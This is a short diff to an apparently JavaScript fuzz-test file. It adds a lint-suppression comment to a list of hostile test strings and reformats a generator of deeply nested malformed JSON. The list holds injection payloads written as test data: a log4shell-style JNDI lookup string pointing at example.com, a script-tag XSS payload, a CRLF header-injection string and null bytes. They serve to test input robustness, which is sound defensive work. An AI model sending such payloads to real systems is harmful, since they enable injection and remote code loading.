@@ -53,6 +53,7 @@ const NASTY = [
   '😀👩‍👩‍👧',
   '\r\nX-Injected: 1',
   '</script><script>alert(1)</script>',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style probe, meant literally
   '${jndi:ldap://example.com/a}',
   '%00%ff',
   '\\u0000',
@@ -154,7 +155,7 @@ const badJson = fc.oneof(
   fc.json().map((text) => text.slice(0, Math.max(1, text.length - 1))),
   fc.string({ maxLength: 80 }),
   fc.integer({ min: 1_000, max: 100_000 }).map((depth) => '['.repeat(depth) + ']'.repeat(depth)),
-  fc.integer({ min: 1_000, max: 50_000 }).map((depth) => '{"a":'.repeat(depth) + '1' + '}'.repeat(depth)),
+  fc.integer({ min: 1_000, max: 50_000 }).map((depth) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`),
 );
 
 /** Bytes that are not valid UTF-8 (or valid only in other encodings), placed inside a JSON string. */
